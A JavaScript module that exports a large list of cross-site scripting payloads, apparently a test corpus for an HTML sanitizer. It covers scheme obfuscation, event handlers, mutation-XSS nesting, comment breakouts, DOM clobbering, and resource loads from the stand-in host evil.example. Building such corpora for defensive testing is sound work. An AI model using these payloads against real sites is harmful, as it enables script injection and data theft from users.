const RUN = "alert(1)";
const IMG = `<img src=x onerror=${RUN}>`;

/** Elements that hold what follows by rules of their own: what leaves one of them may begin to live. */
const CONTAINERS =
  "svg math template noscript style title textarea xmp iframe noembed noframes plaintext select option table tr td caption colgroup button form object applet marquee p a pre li details frameset desc foreignObject mtext annotation-xml mglyph malignmark"
    .split(" ")
    .flatMap((name) => [
      `<${name}>${IMG}</${name}>`,
      `<${name}><p title="</${name}>${IMG.replaceAll('"', "")}">`,
      `<svg><${name}><style><a title="</style>${IMG}">`,
      `<math><${name}><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    ]);

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `view-source:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://evil.example/x`,
  `filesystem:x`,
];
const LINKS = SCHEMES.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<img src="${address}">`,
  `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  `<form action="${address}"><button formaction="${address}">x</button></form>`,
  `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
  `<blockquote cite="${address}">x</blockquote>`,
]);

const HANDLERS =
  "onload onerror onclick onfocus onmouseover ontoggle onbegin onanimationstart ontransitionend onpointerover onpageshow onbeforetoggle onscrollend oncontentvisibilityautostatechange"
    .split(" ")
    .flatMap((name) => [
      `<p ${name}=${RUN} tabindex=0 autofocus style="animation:x;content-visibility:auto">x</p>`,
      `<details open ${name}=${RUN}><summary>x</summary></details>`,
      `<body ${name}=${RUN}>`,
    ]);

const OTHERS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}//-->`,
  `--><script>${RUN}</script>`,
  `<!-->${IMG}-->`,
  `<!--!>${IMG}-->`,
  `<!--->${IMG}`,
  `<![CDATA[>${IMG}]]>`,
  `<svg><![CDATA[><image xlink:href="]]>${IMG}">`,
  `<?xml >${IMG}?>`,
  `<!DOCTYPE x [<!ENTITY y "${IMG}">]>&y;`,
  `</div></main></body>${IMG}`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<style>@import "//evil.example/x.css";*{background:url(//evil.example/x)}</style>`,
  `<p style="background:url(//evil.example/x);position:fixed;inset:0">x</p>`,
  `<img srcset="//evil.example/x 1x" src=x>`,
  `<picture><source srcset="//evil.example/x">${IMG}</picture>`,
  `<video poster=//evil.example/x><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN} autoplay>`,
  `<input type=image src=//evil.example/x onerror=${RUN} autofocus onfocus=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<a id=document name=location href=#x>x</a><form id=body><input name=parentNode><input name=attributes></form>`,
  `<img name=getElementById id=cookie src=x>`,
  `<a ping="//evil.example/x" href=/blog target=_top>x</a>`,
  `<table background="//evil.example/x"><td background="//evil.example/x">x</table>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><p><style><!--</style>${IMG}-->`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<a href="#"><svg><a href="#">${IMG}</a></svg></a>`,
  `<noscript><p title="</noscript>${IMG.replaceAll('"', "")}">`,
  `<template><template><script>${RUN}</script></template></template>`,
  `<template shadowrootmode=open><script>${RUN}</script>${IMG}</template>`,
  `<div><template shadowrootmode=open>${IMG}</template></div>`,
  `<x-element is=x onclick=${RUN}>x</x-element><slot name=x>`,
  `<dialog open onclose=${RUN}>x</dialog><p popover onbeforetoggle=${RUN}>x`,
  `<button popovertarget=x commandfor=x command=show-modal>x</button>`,
  `<portal src=//evil.example></portal><fencedframe></fencedframe>`,
  `<b ${"<b ".repeat(50)}${IMG}`,
  `${"<div><a>".repeat(300)}${IMG}`,
  `${"<b><i><u>".repeat(100)}${IMG}`,
  `<<img src=x onerror=${RUN}>>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src=x onerror\u000b=${RUN}><img src=x\u0000onerror=${RUN}>`,
  `<im\u0000g src=x onerror=${RUN}>`,
  `<p title='"><img src=x onerror=${RUN}>'>x</p>`,
  `<p title="\`><img src=x onerror=${RUN}>">x</p>`,
  `<p title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">x</p>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\u2028</script>\u2029${IMG}`,
  `" onerror="${RUN}`,
  `' autofocus onfocus='${RUN}`,
];

/** What has run a stranger's script, or asked a stranger's server, on sites that show HTML; several hundred. */
export const HARMFUL_HTML: readonly string[] = [...CONTAINERS, ...LINKS, ...HANDLERS, ...OTHERS];
